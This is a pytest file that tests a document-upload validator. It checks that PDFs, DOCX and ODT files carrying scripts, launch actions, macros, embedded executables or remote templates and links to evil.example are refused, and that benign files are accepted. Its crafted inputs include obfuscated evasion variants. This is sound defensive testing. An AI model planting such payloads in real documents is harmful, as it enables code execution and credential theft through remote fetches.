"""PDF and office documents that run, open, send, fetch or carry something are refused with the reason."""

import zipfile
from pathlib import Path
from typing import Any

import pikepdf
import pytest

from tests.files.papers import OOXML, PDF, action, archive, document, pdf_with, refusal, taken

pytestmark = pytest.mark.usefixtures("folder")


# ── PDF ──


@pytest.mark.parametrize(
    ("change", "reason"),
    [
        (action("JavaScript", JS=pikepdf.String("app.alert(1)")), "pdf_script"),
        (action("Launch", F=pikepdf.String("cmd.exe")), "pdf_action"),
        (action("SubmitForm", F=pikepdf.String("https://evil.example")), "pdf_action"),
        (action("GoToR", F=pikepdf.String("\\\\evil.example\\share")), "pdf_action"),
        (action("Rendition"), "pdf_media"),
    ],
)
def test_pdf_that_does_something_when_opened_is_refused(change: Any, reason: str) -> None:
    assert refusal(pdf_with(change)) == reason


def test_pdf_with_script_in_packed_objects_or_odd_letters_is_refused() -> None:
    def deep(pdf: Any) -> None:
        script = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("x()"))
        pdf.pages[0].AA = pikepdf.Dictionary(O=script)

    packed = pdf_with(deep, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    assert b"JavaScript" not in packed
    assert refusal(packed) == "pdf_script"
    odd = PDF.replace(b"/Type /Catalog", b"/Type /Catalog /OpenAction << /S /J#61v#61Script /#4AS (x) >>")
    assert refusal(odd) == "pdf_script"


def test_pdf_with_an_embedded_file_is_refused() -> None:
    def attach(pdf: Any) -> None:
        pdf.attachments["evil.exe"] = b"MZ"

    assert refusal(pdf_with(attach)) == "pdf_attachment"


def test_pdf_with_an_xfa_form_is_refused() -> None:
    def form(pdf: Any) -> None:
        pdf.Root.AcroForm = pikepdf.Dictionary(XFA=pdf.make_stream(b"<xdp/>"), Fields=pikepdf.Array())

    assert refusal(pdf_with(form)) == "pdf_form"


@pytest.mark.parametrize("password", ["rahasia", ""])
def test_pdf_that_is_locked_is_refused(password: str) -> None:
    locked = pdf_with(lambda pdf: None, encryption=pikepdf.Encryption(owner="pemilik", user=password))
    assert refusal(locked) == "pdf_locked"


def test_pdf_with_links_pages_and_plain_forms_istaken() -> None:
    def usual(pdf: Any) -> None:
        go = pikepdf.Dictionary(S=pikepdf.Name.GoTo, D=pikepdf.Array([pdf.pages[0].obj, pikepdf.Name.Fit]))
        pdf.Root.OpenAction = go
        web = pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("https://menpan.go.id"))
        link = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, A=web, Rect=[0, 0, 9, 9])
        pdf.pages[0].Annots = pdf.make_indirect(pikepdf.Array([link]))
        pdf.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array())

    assert taken(pdf_with(usual)).media_type == "application/pdf"


def _address(uri: str, place: str = "/OpenAction") -> Any:
    def change(pdf: Any) -> None:
        go = pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String(uri))
        if place == "/AA":
            pdf.pages[0].obj["/AA"] = pikepdf.Dictionary(O=go)
        elif place == "/OpenAction":
            pdf.Root.OpenAction = go
        else:
            pdf.pages[0].Annots = pikepdf.Array([pikepdf.Dictionary(Subtype=pikepdf.Name.Link, A=go)])

    return change


def _bytes_elsewhere(pdf: Any) -> None:
    far = pdf.make_stream(b"")
    far["/F"] = pikepdf.String("https://evil.example/x")
    pdf.Root.Far = far


@pytest.mark.parametrize("change", [
    _address("https://evil.example"), _address("https://evil.example", "/AA"), _address("javascript:alert(1)", "link"),
    _address("file:///c:/windows/calc.exe", "link"), _bytes_elsewhere,
])  # fmt: skip
def test_pdf_that_leads_out_by_itself_or_to_a_program_is_refused(change: Any) -> None:
    assert refusal(pdf_with(change)) == "pdf_action"


# ── Office documents ──


@pytest.mark.parametrize(
    ("parts", "reason"),
    [
        ({"word/vbaProject.bin": b"x"}, "office_macro"),
        ({"word/activeX/activeX1.xml": b"x"}, "office_macro"),
        ({"word/embeddings/oleObject1.bin": b"MZ"}, "office_embedded"),
        ({"word/_rels/settings.xml.rels": b'<Relationship Type="t/attachedTemplate" Target="http://evil.example/a.dotm"'
                                          b' TargetMode="External"/>'}, "office_external"),
        ({"word/_rels/document.xml.rels": b"<Relationship Target='\\\\evil\\a.png' Type='t/image' "
                                          b"TargetMode='External'/>"}, "office_external"),
        ({"../../evil.sh": b"x"}, "file_damaged"),
    ],
)  # fmt: skip
def test_office_document_that_runs_carries_or_fetches_is_refused(parts: dict[str, bytes], reason: str) -> None:
    assert refusal(document(**parts)) == reason


def test_office_document_with_macros_under_a_plain_name_is_refused() -> None:
    kind = "application/vnd.ms-word.document.macroEnabled.main+xml"
    contents = f'<Types><Override ContentType="{kind}"/></Types>'.encode()
    macro = archive({"[Content_Types].xml": contents, "word/document.xml": b"<x/>"})
    assert refusal(macro, "surat.docx") == "office_macro"


def test_inspection_knows_no_settings_and_no_secrets(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    spy = tmp_path / "spy"
    spy.write_text('#!/bin/sh\nenv > "$(dirname "$0")/seen"\necho \'{"refused": "unsupported"}\'\n')
    spy.chmod(0o755)
    monkeypatch.setenv("JIPP_DATABASE_URL", "postgresql://jipp:rahasia@db/jipp")
    monkeypatch.setattr("app.files.intake.sys.executable", str(spy))
    assert refusal(PDF) == "unsupported-type"
    assert "rahasia" not in (tmp_path / "seen").read_text()


EVIL = "https://evil.example/a.dotm"
TEMPLATE = (
    f'<Relationships><Relationship Id="r1" Type="t/attachedTemplate" Target="{EVIL}" TargetMode="External"/>'
    "</Relationships>"
)


@pytest.mark.parametrize(("name", "content"), [
    ("word/_rels/settings.xml.rels", TEMPLATE.replace("External", "&#69;xternal").encode()),
    ("word/_rels/settings.xml.rels", TEMPLATE.replace("a.dotm", "a?b>c").encode()),
    ("word/_rels/settings.xml.rels", f'<?xml version="1.0" encoding="UTF-16"?>{TEMPLATE}'.encode("utf-16")),
    ("word/_rels/settings.xml.RELS", TEMPLATE.encode()),
    ("word/_rels/settings.xml.rels", TEMPLATE.replace(' Id="r1"', ' xmlns:x="x" x:Type="a/hyperlink"').encode()),
    ("word/_rels/settings.xml.rels", TEMPLATE.replace(' Id="r1"', ' xmlns:x="x" x:Target="file:///c:/x"').encode()),
])  # fmt: skip
def test_a_template_from_elsewhere_is_found_however_it_is_written(name: str, content: bytes) -> None:
    assert refusal(document(**{name: content})) == "office_external"


@pytest.mark.parametrize(("content", "reason"), [
    (b'<!DOCTYPE r [<!ENTITY e "x">]><Relationships/>', "file_damaged"),
    (b"<Relationships><Relationship", "file_damaged"),
    (b'<Relationships><Relationship Type="t/hyperlink" Target="javascript:alert(1)" TargetMode="External"/>'
     b"</Relationships>", "office_macro"),
])  # fmt: skip
def test_relationships_that_no_honest_program_writes(content: bytes, reason: str) -> None:
    assert refusal(document(**{"word/_rels/document.xml.rels": content})) == reason


def test_links_and_the_writers_own_template_are_taken() -> None:
    link = TEMPLATE.replace("t/attachedTemplate", "t/hyperlink").replace(EVIL, "https://menpan.go.id")
    own = TEMPLATE.replace(EVIL, "file:///C:/Users/rani/Normal.dotm")
    honest = document(**{"word/_rels/document.xml.rels": link.encode(), "word/_rels/settings.xml.rels": own.encode()})
    assert taken(honest, "surat.docx").media_type == OOXML.removesuffix(".main+xml")


def odt(content: str) -> bytes:
    """An ODT with this body."""
    spaces = 'xmlns:text="t" xmlns:draw="d" xmlns:script="s" xmlns:xlink="http://www.w3.org/1999/xlink"'
    return archive({
        "mimetype": b"application/vnd.oasis.opendocument.text",
        "META-INF/manifest.xml": b"<manifest/>", "content.xml": f"<doc {spaces}>{content}</doc>".encode(),
    }, method=zipfile.ZIP_STORED)  # fmt: skip


@pytest.mark.parametrize(("content", "reason"), [
    ('<script:event-listener script:event-name="dom:load" xlink:href="vnd.sun.star.script:x$y"/>', "office_macro"),
    ('<text:a xlink:href="macro:///Standard.x"/>', "office_macro"),
    ('<draw:image xlink:href="https://evil.example/a.png" xlink:actuate="onLoad"/>', "office_external"),
    ('<draw:image xlink:href="//evil.example/a.png"/>', "office_external"),
    ('<text:section-source xlink:href="file://evil/share/a.odt"/>', "office_external"),
    ('<text:section-source xlink:href="file:////evil/share/a.odt"/>', "office_external"),
    ('<text:section-source xlink:href="file:///%5C%5Cevil/share/a.odt"/>', "office_external"),
    ('<text:section-source xlink:href="file:///%2fevil/share/a.odt"/>', "office_external"),
])  # fmt: skip
def test_an_odt_that_runs_or_fetches_is_refused(content: str, reason: str) -> None:
    assert refusal(odt(content), "surat.odt") == reason


@pytest.mark.parametrize("place", ["file:///C:/Users/rani/surat.ott", "file:///home/rani/surat.ott",
                                   "file:///usr/lib/libreoffice/share/template/common/surat.ott"])  # fmt: skip
def test_an_odt_that_remembers_the_template_on_its_writers_disk_is_taken(place: str) -> None:
    assert taken(odt(f'<text:template xlink:href="{place}"/>'), "surat.odt").media_type.endswith(".text")


def test_an_odt_with_links_and_pictures_of_its_own_is_taken() -> None:
    honest = odt('<text:a xlink:href="https://menpan.go.id">x</text:a><draw:image xlink:href="Pictures/1.png"/>')
    assert taken(honest, "surat.odt").media_type == "application/vnd.oasis.opendocument.text"
